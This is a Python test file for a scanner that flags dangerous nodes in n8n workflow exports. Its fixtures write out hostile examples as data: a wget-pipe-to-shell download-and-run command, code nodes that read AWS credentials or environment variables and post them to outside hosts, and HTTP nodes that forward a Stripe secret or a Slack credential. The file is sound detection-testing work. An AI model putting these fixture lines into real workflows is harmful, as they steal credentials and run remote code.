"""An n8n workflow export runs unattended once imported and activated: its ``executeCommand`` node
runs a shell command, its ``code``/``function`` nodes run JavaScript or Python, its ``httpRequest``
node sends its body to its URL with the stored credential it names. Each is read as what it is; an
HTTP node to a public API with nothing secret in it stays quiet."""

from __future__ import annotations

import json
from pathlib import Path

from behaviour_files import scan_findings
from skillgrade.findings import Finding


def _workflow(*nodes: dict[str, object]) -> str:
    trigger = {"parameters": {}, "name": "Every hour", "type": "n8n-nodes-base.scheduleTrigger", "typeVersion": 1}
    return json.dumps({"name": "ops", "nodes": [trigger, *nodes], "connections": {}}, indent=2)


def _node(name: str, kind: str, **parameters: object) -> dict[str, object]:
    return {"parameters": parameters, "name": name, "type": f"n8n-nodes-base.{kind}", "typeVersion": 2}


def _serious(tmp_path: Path, text: str) -> list[Finding]:
    found = scan_findings(tmp_path, {"workflows/ops.json": text})
    return [f for f in found if f.severity.value in ("error", "warning")]


def test_execute_command_node_with_a_plain_download_and_run(tmp_path: Path) -> None:
    text = _workflow(_node("Update", "executeCommand", command="wget -qO- http://192.0.2.77/u.sh | sh"))
    assert any(f.rule == "DOWNLOAD_AND_RUN" and f.severity.value == "error" for f in _serious(tmp_path, text))


def test_code_node_reads_a_store_and_an_http_node_sends_it(tmp_path: Path) -> None:
    code = (
        "const fs = require('fs');\n"
        "const k = fs.readFileSync(require('os').homedir() + '/.aws/credentials', 'utf8');\n"
        "return [{json: {k}}];"
    )
    text = _workflow(
        _node("Collect", "code", jsCode=code),
        _node("Post", "httpRequest", method="POST", url="https://hooks.flowrelay-ops.net/x", sendBody=True),
    )
    found = _serious(tmp_path, text)
    errors = [f for f in found if f.rule == "CREDENTIAL_EXFILTRATION" and f.severity.value == "error"]
    assert errors and "flowrelay-ops.net" in errors[0].message


def test_python_code_node(tmp_path: Path) -> None:
    code = (
        "import os, urllib.request\n"
        "urllib.request.urlopen('https://c.example-pyflow.io', data=str(dict(os.environ)).encode())"
    )
    text = _workflow(_node("Py", "code", language="python", pythonCode=code))
    assert any(f.rule == "CREDENTIAL_EXFILTRATION" and f.severity.value == "error" for f in _serious(tmp_path, text))


def test_http_node_sending_a_secret_variable_of_the_host(tmp_path: Path) -> None:
    body = '={{ {"k": $env["STRIPE_SECRET_KEY"]} }}'
    text = _workflow(_node("Leak", "httpRequest", url="https://api.metricsink-demo.org/k", jsonBody=body))
    assert any(f.rule == "CREDENTIAL_EXFILTRATION" and f.severity.value == "error" for f in _serious(tmp_path, text))


def test_slack_credential_sent_to_another_host(tmp_path: Path) -> None:
    node = _node("Fwd", "httpRequest", url="https://inbox.example-relay.co/t", nodeCredentialType="slackApi")
    node["credentials"] = {"slackApi": {"id": "4", "name": "Slack account"}}
    found = _serious(tmp_path, _workflow(node))
    assert any(f.rule == "CREDENTIAL_EXFILTRATION" and "slackApi" in f.message for f in found)


def test_http_node_to_a_public_api_stays_quiet(tmp_path: Path) -> None:
    node = _node("Weather", "httpRequest", url="https://api.open-meteo.com/v1/forecast?latitude=52.5&longitude=13.4")
    node2 = _node("Issues", "httpRequest", url="https://api.github.com/repos/o/r/issues",
                  authentication="predefinedCredentialType", nodeCredentialType="githubApi")  # fmt: skip
    node2["credentials"] = {"githubApi": {"id": "2", "name": "GitHub"}}
    notify = _node(
        "Tell", "httpRequest", url="={{ $env.SLACK_WEBHOOK_URL }}", jsonBody='={{ {"text": $json.summary} }}'
    )
    assert not _serious(tmp_path, _workflow(node, node2, notify))
